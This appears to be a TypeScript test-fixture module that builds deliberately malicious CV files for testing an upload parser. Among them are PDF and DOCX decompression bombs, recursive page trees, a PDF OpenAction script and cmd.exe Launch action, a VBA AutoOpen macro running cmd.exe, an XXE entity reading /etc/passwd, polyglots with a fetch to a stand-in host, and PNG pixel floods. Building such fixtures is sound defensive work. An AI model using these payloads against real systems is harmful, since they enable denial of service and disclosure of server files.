import { crc32, deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';

// CVs that were made to do harm. Each is small; what it unpacks to, or leads to, is not.

const PAGES = '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n';

type PdfPart = string | Uint8Array;

export function pdf(...parts: readonly PdfPart[]): Buffer {
  const body = parts.map((part) => Buffer.from(part));
  const trailer = Buffer.from('trailer<</Root 1 0 R/Size 99>>\n%%EOF\n');
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...body, trailer]);
}

export function stream(dictionary: string, bytes: Uint8Array): Buffer {
  const head = `<<${dictionary}/Length ${bytes.length}>>stream\n`;
  return Buffer.concat([Buffer.from(head), bytes, Buffer.from('\nendstream ')]);
}

const FONT = '5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n';
const PAGE =
  '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n';

/** One page whose content is given, with what the catalogue says beside it. */
export function onePage(content: Uint8Array, { catalogue = '', filter = '' } = {}): Buffer {
  return pdf(
    `1 0 obj<</Type/Catalog/Pages 2 0 R${catalogue}>>endobj\n`,
    PAGES,
    PAGE,
    FONT,
    '4 0 obj',
    stream(filter, content),
    'endobj\n',
  );
}

export const SHOWN = Buffer.from(
  'BT /F1 12 Tf 50 700 Td (Ana Ruiz Soto) Tj 0 -20 Td (Tel. 55 1234 5678) Tj ET',
);

/** A page on which nothing is written, as that of a scan. */
export function pdfWithoutText(): Buffer {
  return onePage(Buffer.from('0 0 9 9 re f'));
}

interface ScanOptions {
  /** Of the picture, in pixels. */
  readonly width: number;
  readonly height: number;
  readonly pages: number;
  /** What the app that scanned it wrote on each page. */
  readonly stamp?: string;
}

/** Pages that each are the same picture, as scanners make them. */
export function pdfOfScan(
  jpeg: Uint8Array,
  { width, height, pages, stamp = '' }: ScanOptions,
): Buffer {
  const numbers = Array.from({ length: pages }, (_, index) => 10 + index);
  const image = `/Type/XObject/Subtype/Image/Width ${width}/Height ${height}/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode`;
  return pdf(
    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n',
    `2 0 obj<</Type/Pages/Kids[${numbers.map((number) => `${number} 0 R`).join(' ')}]/Count ${pages}>>endobj\n`,
    ...numbers.map(
      (number) =>
        `${number} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 6 0 R>>/Font<</F1 5 0 R>>>>>>endobj\n`,
    ),
    FONT,
    '4 0 obj',
    stream('', Buffer.from(`q 595 0 0 842 0 0 cm /X Do Q BT /F1 9 Tf 400 20 Td (${stamp}) Tj ET`)),
    'endobj\n6 0 obj',
    stream(image, jpeg),
    'endobj\n',
  );
}

/** A stream that unpacks to very much. */
export function pdfBomb(): Buffer {
  const once = deflateSync(Buffer.alloc(250 * 1024 * 1024, 'q Q '));
  return onePage(deflateSync(once), { filter: '/Filter[/FlateDecode/FlateDecode]' });
}

/** A page that is its own parent's child for ever, and a form that draws itself. */
export function pdfLoop(): Buffer {
  return pdf(
    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n',
    '2 0 obj<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9999999/Parent 2 0 R>>endobj\n',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</X 4 0 R>>>>>>endobj\n',
    '4 0 obj',
    stream(
      '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>',
      Buffer.from('/X Do '.repeat(50)),
    ),
    'endobj\n',
  );
}

/** Scripts and actions that a reader might run, beside text. */
export function pdfWithScript(): Buffer {
  const catalogue =
    '/OpenAction<</S/JavaScript/JS(while(true){app.alert(1)})>>/AA<</WC<</S/Launch/F(cmd.exe)>>>>';
  return onePage(SHOWN, { catalogue });
}

/** A PDF that is also an archive with a program in it. */
export function pdfArchive(): Buffer {
  const archive = zipSync({ 'instalar.exe': new TextEncoder().encode('MZ') });
  return Buffer.concat([onePage(SHOWN), archive]);
}

/** A PDF that is also a page of the web. */
export function pdfPolyglot(): Buffer {
  return Buffer.concat([
    onePage(SHOWN),
    Buffer.from('<script>fetch("https://x.example")</script>'),
  ]);
}

/** Each page is one of its own, and all show the same. */
export function pdfOfPages(count: number): Buffer {
  const numbers = Array.from({ length: count }, (_, index) => index + 10);
  const kids = numbers.map((number) => `${number} 0 R`).join(' ');
  return pdf(
    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n',
    `2 0 obj<</Type/Pages/Kids[${kids}]/Count ${count}>>endobj\n`,
    FONT,
    '4 0 obj',
    stream('', SHOWN),
    'endobj\n',
    ...numbers.map((number) => PAGE.replace('3 0 obj', `${number} 0 obj`)),
  );
}

/** A password that nobody knows. @param name of what says so, which may be written so that a look at its bytes does not find it */
export function pdfEncrypted(name = '/Encrypt'): Buffer {
  const key = '41'.repeat(32);
  return encrypted(`/ID[<${key}><${key}>]${name}<<${STANDARD}/P -1/O<${key}>/U<${key}>>>`);
}

/** Encrypted, and open to whoever does not print it: the empty password is that of `/U`. */
export function pdfNotToPrint(): Buffer {
  const id = '<455e618cdfa904147239ae8e99a9a1c2>';
  const owner = '<4bdffca96c409359973f843ec563fe0e62a198ac41e38eed4c370bfa8d7cd1e0>';
  const user = '<3cda2c2dcb1961db9c0b9b34cd0d2a9700000000000000000000000000000000>';
  return encrypted(`/ID[${id}${id}]/Encrypt<<${STANDARD}/P -5/O${owner}/U${user}>>`);
}

const STANDARD = '/Filter/Standard/V 2/R 3/Length 128';

function encrypted(trailer: string): Buffer {
  return pdf(
    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n',
    ...[PAGES, PAGE, FONT, '4 0 obj', stream('', SHOWN), 'endobj\n'],
    `trailer<</Root 1 0 R/Size 99${trailer}>>\n`,
  );
}

export function pdfTruncated(): Buffer {
  return onePage(SHOWN).subarray(0, 180);
}

const CONTENT_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const RELATIONS =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const NAMESPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

interface DocxOptions {
  /** Before the document's XML. */
  readonly prologue?: string;
  /** Content by path, beside the usual parts. */
  readonly parts?: Readonly<Record<string, string>>;
}

/** @param body of the document's XML */
export function docx(body: string, { prologue = '', parts = {} }: DocxOptions = {}): Buffer {
  const text = (content: string) => new TextEncoder().encode(content);
  const others = Object.entries(parts).map(([path, content]) => [path, text(content)] as const);
  const document = `<?xml version="1.0"?>${prologue}<w:document ${NAMESPACE}><w:body>${body}</w:body></w:document>`;
  return Buffer.from(
    zipSync({
      '[Content_Types].xml': text(CONTENT_TYPES),
      '_rels/.rels': text(RELATIONS),
      'word/document.xml': text(document),
      ...Object.fromEntries(others),
    }),
  );
}

export function paragraph(text: string): string {
  return `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
}

/** Much more than its directory should let pass. */
export function docxBomb(): Buffer {
  return docx(paragraph('a'.repeat(40 * 1024 * 1024)));
}

/** Entities that grow, and one that leads to a file of the server. */
export function docxEntities(): Buffer {
  const levels = Array.from({ length: 12 }, (_, level) => {
    const before = level === 0 ? 'aaaaaaaaaa' : `&e${level - 1};`.repeat(10);
    return `<!ENTITY e${level} "${before}">`;
  });
  const prologue = `<!DOCTYPE w:document [${levels.join('')}<!ENTITY f SYSTEM "file:///etc/passwd">]>`;
  return docx(`${paragraph('&e11;')}${paragraph('&f;')}`, { prologue });
}

/** Macros, a template and a picture that lie on another server, beside text. */
export function docxWithMacros(): Buffer {
  const relationship = (id: string, type: string) =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://x.example/${type}" TargetMode="External"/>`;
  return docx(paragraph('Ana Ruiz Soto') + paragraph('Tel. 55 1234 5678'), {
    parts: {
      'word/vbaProject.bin': 'Sub AutoOpen()\nShell "cmd.exe"\nEnd Sub',
      'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship('r2', 'attachedTemplate')}${relationship('r3', 'image')}</Relationships>`,
    },
  });
}

/** Tables in tables, deeper than any stack. */
export function docxNested(): Buffer {
  const depth = 20_000;
  const open = '<w:tbl><w:tr><w:tc>'.repeat(depth);
  return docx(`${open}${'</w:tc></w:tr></w:tbl>'.repeat(depth)}`);
}

/** Text that is turned round so that it looks like another. */
export function rightToLeft(): Buffer {
  return Buffer.from('Nombre: \u202eotoS ziuR anA\u202c\u200b\nTel. 55\u200f 1234\u2066 5678\n');
}

/** A picture of a few kilobytes that unpacks to as many pixels as the largest that is read. */
export function pictureFlood(): Buffer {
  const side = 10_900;
  return blackPng(side, Buffer.alloc(side * (1 + Math.ceil(side / 8))));
}

/** A PNG that says of itself that it has more pixels than memory holds. */
export function pictureOfLies(): Buffer {
  return blackPng(60_000, Buffer.alloc(1000));
}

/** Square, of one bit for each pixel. @param rows each after the number of its filter */
function blackPng(side: number, rows: Buffer): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.writeUInt8(1, 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export function pngChunk(type: string, bytes: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), bytes]);
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(bytes.length);
  checksum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, checksum]);
}
